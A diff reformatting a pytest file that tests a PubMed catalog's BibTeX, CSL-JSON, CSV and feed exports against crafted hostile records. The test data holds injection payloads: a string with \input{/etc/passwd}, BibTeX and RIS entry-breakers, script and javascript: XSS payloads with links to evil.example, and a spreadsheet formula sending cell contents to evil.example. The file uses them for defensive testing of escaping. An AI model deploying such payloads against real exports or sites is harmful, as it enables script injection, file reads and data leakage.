@@ -45,16 +45,32 @@ BASE = 38011560  # the ketamine review: DOI, PMC, ISSN, keywords, MeSH, seven au
 
 # Text that ends a BibTeX field or entry, a RIS record, a JSON string; LaTeX commands and
 # specials; unpaired braces; a name list's "and" and comma; bidirectional and zero-width marks.
-BREAKER = ('x}, note = {injected}}\n\n@article{pmid1,\n title = {y\r\nER  - \nTY  - JOUR\nTI  - injected\n'
-           '"]}, {"id": "pmid2"} \\input{/etc/passwd} \\\\ $x^2$ % # & _ ~ -- --- { Smith and Jones, J '
-           '\u202eevil\u200b ; next')
+BREAKER = (
+    "x}, note = {injected}}\n\n@article{pmid1,\n title = {y\r\nER  - \nTY  - JOUR\nTI  - injected\n"
+    '"]}, {"id": "pmid2"} \\input{/etc/passwd} \\\\ $x^2$ % # & _ ~ -- --- { Smith and Jones, J '
+    "\u202eevil\u200b ; next"
+)
 # The same with its braces paired: written \{ \}, as LaTeX text.
 PAIRED = '@article{x, title = {y}} {nested {braces}} `q\' "d" \\end{document} and , %'
 # A DOI holds any printable character; raw in BibTeX, except what would end the field.
 ODD_DOI = '10.1002/(SICI)1097-0142(197702)39:2+<856::AID-CNCR>3.0.CO;2-#_%&~^$"@x'
 
-ARTICLE_FIELDS = ("title", "abstract", "journal", "journal_iso", "volume", "issue", "pages", "doi", "pmcid",
-                  "issn_print", "language", "publication_types", "keywords", "mesh_terms")
+ARTICLE_FIELDS = (
+    "title",
+    "abstract",
+    "journal",
+    "journal_iso",
+    "volume",
+    "issue",
+    "pages",
+    "doi",
+    "pmcid",
+    "issn_print",
+    "language",
+    "publication_types",
+    "keywords",
+    "mesh_terms",
+)
 PERSON_FIELDS = ("last_name", "fore_name", "suffix", "collective_name")
 
 
@@ -83,8 +99,15 @@ def records_catalog(tmp_path_factory):
     """records/ alone: the real rows the crafted records start from."""
     db = store.open_db(tmp_path_factory.mktemp("hostile-records") / "catalog.db")
     run_id = store.start_run(db, mode="import", query_version="test", query_text="records/", window_from=None)
-    store.save_articles(db, [r for path in sorted(RECORDS.glob("*.xml"))
-                             for r in parse_pubmed_xml(path.read_bytes(), source_name=path.name)], run_id)
+    store.save_articles(
+        db,
+        [
+            r
+            for path in sorted(RECORDS.glob("*.xml"))
+            for r in parse_pubmed_xml(path.read_bytes(), source_name=path.name)
+        ],
+        run_id,
+    )
     return db
 
 
@@ -107,10 +130,14 @@ def crafted_records(records_catalog) -> list[dict]:
     """The real row of BASE with one field (or one author's or editor's name part) replaced by a
     breaker; each a record of its own, PMIDs 99000001 on."""
     [article] = _rows(records_catalog, "select * from articles where pmid = ?", [BASE])
-    people = _rows(records_catalog, """
+    people = _rows(
+        records_catalog,
+        """
         select aa.role, au.last_name, au.fore_name, au.initials, au.suffix, au.collective_name
         from article_authors aa join authors au on au.id = aa.author_id
-        where aa.pmid = ? order by aa.role, aa.position""", [BASE])
+        where aa.pmid = ? order by aa.role, aa.position""",
+        [BASE],
+    )
     authors = [p for p in people if p["role"] == "author"]
     editor = dict(authors[0], role="editor")
     out, pmid = [], 99000001
@@ -227,17 +254,18 @@ def pandoc_items(path: Path, fmt: str, chunk: int = 4000) -> list[dict]:
     run over all 33,800 records takes 4.7 GB of memory)."""
     if fmt == "bibtex":
         entries = path.read_text().split("\n\n@")
-        pieces = ["\n\n@".join(entries[i:i + chunk]) for i in range(0, len(entries), chunk)]
+        pieces = ["\n\n@".join(entries[i : i + chunk]) for i in range(0, len(entries), chunk)]
         pieces = [p if p.startswith("@") else "@" + p for p in pieces]
     else:
         items = json.loads(path.read_text())
-        pieces = [json.dumps(items[i:i + chunk], ensure_ascii=False) for i in range(0, len(items), chunk)]
+        pieces = [json.dumps(items[i : i + chunk], ensure_ascii=False) for i in range(0, len(items), chunk)]
     out = []
     for i, piece in enumerate(pieces):
         part = path.with_name(f"{path.stem}-{i}{path.suffix}")
         part.write_text(piece)
-        done = subprocess.run([PANDOC, "-f", fmt, "-t", "csljson", str(part)], capture_output=True, text=True,
-                              timeout=900)
+        done = subprocess.run(
+            [PANDOC, "-f", fmt, "-t", "csljson", str(part)], capture_output=True, text=True, timeout=900
+        )
         assert done.returncode == 0, done.stderr[-2000:]
         assert "warning" not in done.stderr.lower(), done.stderr[-2000:]
         out += json.loads(done.stdout)
@@ -263,10 +291,15 @@ def check_pandoc(records: list[dict], items: list[dict], *, from_bibtex: bool) -
     for r, item in zip(records, items):
         start, end = export.split_pages(r["pages"])
         expected = {
-            "title": text(r["title"]), "container-title": text(r["journal"]), "abstract": text(r["abstract"]),
-            "volume": text(r["volume"]), "issue": text(r["issue"]),
+            "title": text(r["title"]),
+            "container-title": text(r["journal"]),
+            "abstract": text(r["abstract"]),
+            "volume": text(r["volume"]),
+            "issue": text(r["issue"]),
             "page": text(f"{start}-{end}" if end else start),
-            "ISSN": text(r["issn"]), "PMCID": text(r["pmcid"]), "URL": r["url"],
+            "ISSN": text(r["issn"]),
+            "PMCID": text(r["pmcid"]),
+            "URL": r["url"],
             "keyword": text(", ".join(keywords_of(r))),
             "DOI": (export.bibtex_verbatim(r["doi"]) if from_bibtex else r["doi"]) or None,
             "author": [name_words(p) for p in r["authors"]] or None,
@@ -286,9 +319,19 @@ def check_pandoc(records: list[dict], items: list[dict], *, from_bibtex: bool) -
             if got[role]:
                 got[role] = [name_words({k: text(v) for k, v in p.items()}) for p in got[role]]
             if expected[role]:
-                expected[role] = [name_words({k: text(v) for k, v in (
-                    p.items() if not from_bibtex else ((k, unpaired_braces_dropped(v)) for k, v in p.items()))})
-                    for p in (r["authors"] if role == "author" else r["editors"])]
+                expected[role] = [
+                    name_words(
+                        {
+                            k: text(v)
+                            for k, v in (
+                                p.items()
+                                if not from_bibtex
+                                else ((k, unpaired_braces_dropped(v)) for k, v in p.items())
+                            )
+                        }
+                    )
+                    for p in (r["authors"] if role == "author" else r["editors"])
+                ]
         for key in expected:
             if got[key] != expected[key]:
                 mismatches[key] += 1
@@ -316,8 +359,13 @@ def run_biber(bib: str, tmp_path: Path) -> list[str]:
     """biber --tool over `bib`: the entry keys it read, after asserting it reported no error."""
     path = tmp_path / "export.bib"
     path.write_text(bib)
-    done = subprocess.run([BIBER, "--tool", "--quiet", "--output-file", str(tmp_path / "out.bib"), str(path)],
-                          capture_output=True, text=True, timeout=600, cwd=tmp_path)
+    done = subprocess.run(
+        [BIBER, "--tool", "--quiet", "--output-file", str(tmp_path / "out.bib"), str(path)],
+        capture_output=True,
+        text=True,
+        timeout=600,
+        cwd=tmp_path,
+    )
     assert done.returncode == 0 and "ERROR" not in done.stdout + done.stderr, (done.stdout + done.stderr)[-3000:]
     return sorted(e.key for e in bibtexparser.parse_file(str(tmp_path / "out.bib")).entries)
 
@@ -377,16 +425,25 @@ def test_crafted_records_are_one_entry_each_in_bibtex_with_every_field(crafted_r
     # biber decodes LaTeX in a name before it splits the name at its commas, so a name part
     # holding escaped braces or % is an error it skips the entry for (never a second entry):
     # biber reads the records whose breakers are elsewhere; see the README.
-    plain_names = [r for r in crafted_records if not any(
-        breaker in str(v) for p in r["authors"] + r["editors"] for v in p.values() for breaker in (BREAKER, PAIRED))]
+    plain_names = [
+        r
+        for r in crafted_records
+        if not any(
+            breaker in str(v) for p in r["authors"] + r["editors"] for v in p.values() for breaker in (BREAKER, PAIRED)
+        )
+    ]
     assert len(plain_names) == len(crafted_records) - 2 * 2 * len(PERSON_FIELDS)
     assert run_biber(export.to_bibtex(plain_names), tmp_path) == sorted(export.citation_key(r) for r in plain_names)
 
 
 def test_bibtex_writes_dois_verbatim_and_leaves_out_one_that_would_end_the_entry(crafted_records):
     by_doi = {r["doi"]: r for r in crafted_records[-4:]}
-    for doi, present in ((ODD_DOI, True), ("10.1111/jpc.1_15346", True), ("10.1/x} @article{y", False),
-                         ("10.1/\\x", False)):
+    for doi, present in (
+        (ODD_DOI, True),
+        ("10.1111/jpc.1_15346", True),
+        ("10.1/x} @article{y", False),
+        ("10.1/\\x", False),
+    ):
         [entry] = bibtexparser.parse_string(export.to_bibtex([by_doi[doi]])).entries
         assert entry.fields_dict.get("doi") is None if not present else entry["doi"] == doi
         [item] = json.loads(export.to_csl_json([by_doi[doi]]))
@@ -403,9 +460,13 @@ def test_an_issn_breaker_yields_one_bibtex_entry(crafted_records):
 
 # -- the served catalog: crafted records harvested like any other ------------------------------
 
-HTML_TITLE = '<script>alert(1)</script><img src="http://tracker.example/t.gif"> Ketamine <a href="javascript:alert(2)">x</a>'
-HTML_ABSTRACT = ('<img src=http://tracker.example/a.gif> ketamine <a href="http://evil.example/">more</a> '
-                 '<a href="javascript:alert(3)">x</a> <script>alert(4)</script> <iframe src="http://evil.example/">')
+HTML_TITLE = (
+    '<script>alert(1)</script><img src="http://tracker.example/t.gif"> Ketamine <a href="javascript:alert(2)">x</a>'
+)
+HTML_ABSTRACT = (
+    '<img src=http://tracker.example/a.gif> ketamine <a href="http://evil.example/">more</a> '
+    '<a href="javascript:alert(3)">x</a> <script>alert(4)</script> <iframe src="http://evil.example/">'
+)
 HTML_JOURNAL = '<img src="http://tracker.example/j.gif"><a href="javascript:alert(5)">Journal</a>'
 FORMULAS = {
     "title": '=HYPERLINK("http://evil.example/?"&A1,"Ketamine")',
@@ -440,10 +501,17 @@ def crafted_corpus() -> Corpus:
     corpus = Corpus.cached([RECORDS]).copy()
     base = corpus[BASE]
     crafted = {
-        CRAFTED_HTML: {".//ArticleTitle": HTML_TITLE, ".//Abstract/AbstractText": HTML_ABSTRACT,
-                       ".//Journal/Title": HTML_JOURNAL},
-        CRAFTED_FORMULA: {".//ArticleTitle": FORMULAS["title"], ".//Abstract/AbstractText": FORMULAS["abstract"],
-                          ".//Journal/Title": FORMULAS["journal"], ".//KeywordList/Keyword": FORMULAS["keywords"]},
+        CRAFTED_HTML: {
+            ".//ArticleTitle": HTML_TITLE,
+            ".//Abstract/AbstractText": HTML_ABSTRACT,
+            ".//Journal/Title": HTML_JOURNAL,
+        },
+        CRAFTED_FORMULA: {
+            ".//ArticleTitle": FORMULAS["title"],
+            ".//Abstract/AbstractText": FORMULAS["abstract"],
+            ".//Journal/Title": FORMULAS["journal"],
+            ".//KeywordList/Keyword": FORMULAS["keywords"],
+        },
         CRAFTED_BIBTEX: {".//Journal/ISSN": ISSN_BREAKER, ".//ArticleTitle": "Ketamine {x}} @article{y, title={z"},
     }
     for pmid, changes in crafted.items():
@@ -489,12 +557,20 @@ def _json_rows(client, path: str) -> list[dict]:
 def test_csv_cells_a_spreadsheet_would_run_are_quoted_text_and_the_rest_unchanged(hostile_client):
     for csv_path, json_path in (
         # the table, streamed (chunked, page by page) and not
-        ("/catalog/articles.csv?_stream=on&_size=50&_sort=pmid", "/catalog/articles.json?_shape=objects&_size=max&_sort=pmid"),
-        (f"/catalog/articles.csv?pmid={CRAFTED_FORMULA}", f"/catalog/articles.json?_shape=objects&pmid={CRAFTED_FORMULA}"),
+        (
+            "/catalog/articles.csv?_stream=on&_size=50&_sort=pmid",
+            "/catalog/articles.json?_shape=objects&_size=max&_sort=pmid",
+        ),
+        (
+            f"/catalog/articles.csv?pmid={CRAFTED_FORMULA}",
+            f"/catalog/articles.json?_shape=objects&pmid={CRAFTED_FORMULA}",
+        ),
         # a question of the cookbook, and SQL typed by a reader
         ("/catalog/search.csv?q=ketamine", "/catalog/search.json?_shape=objects&q=ketamine"),
-        ("/catalog.csv?sql=select+pmid,+title,+abstract,+journal,+keywords,+-1.5+as+n+from+articles+order+by+pmid",
-         "/catalog.json?_shape=objects&sql=select+pmid,+title,+abstract,+journal,+keywords,+-1.5+as+n+from+articles+order+by+pmid"),
+        (
+            "/catalog.csv?sql=select+pmid,+title,+abstract,+journal,+keywords,+-1.5+as+n+from+articles+order+by+pmid",
+            "/catalog.json?_shape=objects&sql=select+pmid,+title,+abstract,+journal,+keywords,+-1.5+as+n+from+articles+order+by+pmid",
+        ),
     ):
         table = _csv(hostile_client, csv_path)
         rows = _json_rows(hostile_client, json_path)
@@ -525,8 +601,13 @@ def test_json_keeps_formula_text_exactly(hostile_client):
     assert row["title"] == FORMULAS["title"]
 
 
-ALLOWED_HOSTS = {"pubmed.ncbi.nlm.nih.gov", "doi.org", "www.ncbi.nlm.nih.gov", "pmc.ncbi.nlm.nih.gov",
-                 "clinicaltrials.gov"}
+ALLOWED_HOSTS = {
+    "pubmed.ncbi.nlm.nih.gov",
+    "doi.org",
+    "www.ncbi.nlm.nih.gov",
+    "pmc.ncbi.nlm.nih.gov",
+    "clinicaltrials.gov",
+}
 
 
 def _links(html_text: str) -> tuple[list[str], list[str]]:
@@ -571,8 +652,10 @@ def test_feed_entries_carry_record_text_as_text_and_only_our_links(hostile_clien
             assert not {"img", "script", "iframe"} & set(tags), (entry.id, tags)
     crafted = by_pmid[CRAFTED_HTML].content[0]["value"]
     assert "&lt;img src=http://tracker.example/a.gif&gt;" in crafted  # shown, as text
-    assert "&lt;img src=&#34;http://tracker.example/j.gif&#34;&gt;" in crafted or \
-        "&lt;img src=&quot;http://tracker.example/j.gif&quot;&gt;" in crafted
+    assert (
+        "&lt;img src=&#34;http://tracker.example/j.gif&#34;&gt;" in crafted
+        or "&lt;img src=&quot;http://tracker.example/j.gif&quot;&gt;" in crafted
+    )
     urls, _ = _links(crafted)
     assert any(u.endswith(f"/catalog/articles/{CRAFTED_HTML}") for u in urls)
     assert f"https://pubmed.ncbi.nlm.nih.gov/{CRAFTED_HTML}/" in urls
